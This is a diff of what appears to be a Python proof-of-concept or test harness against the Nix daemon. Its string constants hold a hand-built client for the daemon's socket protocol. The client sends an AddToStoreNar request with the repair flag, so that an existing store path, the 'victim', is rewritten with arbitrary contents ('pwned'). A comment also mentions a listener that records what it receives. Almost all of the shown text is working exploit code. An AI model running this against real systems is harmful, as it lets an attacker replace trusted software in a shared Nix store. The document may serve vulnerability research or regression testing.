@@ -101,25 +101,32 @@ INFO
 echo "References: " >> "cache/$(basename "$victim" | cut -c1-32).narinfo"
 """
 
-# Asks for a path that is there to be written again ("repair"), and sends something else. No command of Nix does it.
-REPLACE: Final = r"""
-"$python/bin/python3" - "$victim" "$(nix-hash --type sha256 "$victim")" \
-  "fixed:r:sha256:$(nix-hash --type sha256 --base32 "$victim")" <<'PY'
+# Adds a path of its own content by AddToStoreNar, asking for one that is there to be written again ("repair"). No command
+# of Nix does it. It stays until it is answered: a daemon drops what a client asked for that has gone.
+ADD: Final = r"""
 import socket, struct, sys
-victim, nar_hash, address = sys.argv[1:]
+path, victim, nar_hash, address, contents = sys.argv[1:]
 def number(value): return struct.pack("<Q", value)
 def text(value): return number(len(value)) + value.encode() + b"\0" * (-len(value) % 8)
-nar = b"".join(map(text, ("nix-archive-1", "(", "type", "regular", "contents", "pwned\n", ")")))
+nar = b"".join(map(text, ("nix-archive-1", "(", "type", "regular", "contents", contents + "\n", ")")))
 info = text(victim) + text("") + text(nar_hash) + number(0) * 2 + number(len(nar)) + number(0) * 2 + text(address)
 daemon = socket.socket(socket.AF_UNIX)
-daemon.connect("/nix/var/nix/daemon-socket/socket")
+daemon.connect(path)
 daemon.sendall(number(0x6E697863) + number(0x121) + number(0) * 2)
 daemon.sendall(number(39) + info + number(1) * 2 + number(len(nar)) + nar + number(0))
-daemon.shutdown(socket.SHUT_WR)
-while daemon.recv(65536):
-    pass
-PY
+last, error, answer = number(0x616C7473), number(0x63787470), b""
+while answer.count(last) < 2 and error not in answer:
+    answer += daemon.recv(65536) or sys.exit("no answer")
 """
+
+REPLACE: Final = (
+    r"""
+"$python/bin/python3" - /nix/var/nix/daemon-socket/socket "$victim" "$(nix-hash --type sha256 "$victim")" \
+  "fixed:r:sha256:$(nix-hash --type sha256 --base32 "$victim")" pwned <<'PY'
+"""
+    + ADD
+    + "PY\n"
+)
 
 # Answers on the host's loopback, on an abstract socket, and on its address, where it writes down what it is told.
 LISTENER: Final = r"""
